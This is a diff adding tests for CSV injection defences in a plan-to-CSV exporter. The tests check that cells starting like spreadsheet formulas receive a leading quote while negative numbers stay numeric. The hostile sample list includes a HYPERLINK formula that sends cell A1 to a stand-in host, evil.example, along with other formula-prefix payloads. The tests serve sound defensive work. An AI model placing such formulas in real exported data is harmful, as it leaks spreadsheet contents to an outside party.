@@ -47,3 +47,44 @@ describe('the plan as CSV', () => {
     expect(csvField('two\nlines', ',')).toBe('"two\nlines"');
   });
 });
+
+describe('cells that a spreadsheet would run as a formula (CSV injection)', () => {
+  const HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"klik")', '+31 10 123', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
+
+  /** The sample plan with hostile text in every text column a party controls: street, owner, name, explanation. */
+  function hostilePlan() {
+    const plan = samplePlan();
+    let n = 0;
+    const next = () => HOSTILE[n++ % HOSTILE.length]!;
+    for (const opening of plan.openings) {
+      opening.street = next();
+      for (const work of opening.works) Object.assign(work, { owner: next(), name: next(), explanation: next() });
+    }
+    return plan;
+  }
+
+  it.each([
+    ['comma', {}, ','],
+    ['semicolon with BOM', { delimiter: ';', bom: true }, ';'],
+  ] as const)('are written with a leading quote in the %s flavour, so no data cell starts like a formula', (_, options, delimiter) => {
+    const text = planToCsv(hostilePlan(), options);
+    const rows = readCsv(text.replace(/^\uFEFF/, ''), delimiter).slice(1);
+    const fields = rows.flat();
+    for (const value of HOSTILE) expect(fields).toContain(`'${value}`);
+    const formulaLike = fields.filter((f) => /^[=+\-@\t\r]/.test(f) && !/^-\d+$/.test(f));
+    expect(formulaLike).toEqual([]);
+  });
+
+  it('keeps numbers as numbers: a negative shift is written -120, not as text', () => {
+    const rows = readCsv(planToCsv(hostilePlan())).slice(1);
+    expect(rows.flat()).toContain('-120');
+    expect(rows.flat()).not.toContain("'-120");
+  });
+
+  it('quotes a neutralised cell and doubles its inner quotes', () => {
+    expect(csvField('=1+1', ',')).toBe(`"'=1+1"`);
+    expect(csvField('@x "y"', ';')).toBe(`"'@x ""y"""`);
+    expect(csvField('-', ',')).toBe(`"'-"`);
+    expect(csvField('a-b=c', ',')).toBe('a-b=c');
+  });
+});
